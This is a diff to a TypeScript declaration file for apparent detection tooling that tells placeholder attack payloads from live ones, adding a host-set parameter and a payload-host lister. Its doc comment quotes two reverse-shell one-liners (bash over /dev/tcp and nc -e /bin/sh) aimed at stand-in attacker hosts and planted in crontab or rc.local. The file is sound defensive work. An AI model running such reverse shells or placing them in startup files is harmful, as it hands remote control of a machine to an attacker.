@@ -9,8 +9,11 @@ export declare function runsCode(v: Value | undefined): boolean;
  * Code that runs each time it loads, but whose every connection goes to a write-up's placeholder host
  * (`bash -i >& /dev/tcp/ATTACKER/4444 0>&1` in a crontab line, `nc ATTACKER_IP 5555 -e /bin/sh` in
  * rc.local): a technique shown with the reader's own box left to fill in, not a payload that reaches
- * anyone as written. A variable or an ordinary host is not a placeholder.
+ * anyone as written. A variable counts only when nothing in reach fills it (`unfilled`, from
+ * support/unfilled-hosts.ts); an ordinary host is not a placeholder.
  */
-export declare function placeholderPayload(v: Value | undefined): boolean;
+export declare function placeholderPayload(v: Value | undefined, unfilled?: ReadonlySet<string>): boolean;
+/** The hosts written code connects to or downloads from (at most 16, the download's source included). */
+export declare function payloadHosts(v: Value | undefined): string[];
 /** `.git/hooks/x` of this clone written from a file of the repository, nothing downloaded or decoded. */
 export declare function ownHook(b: BehaviourOf<'write'>): boolean;
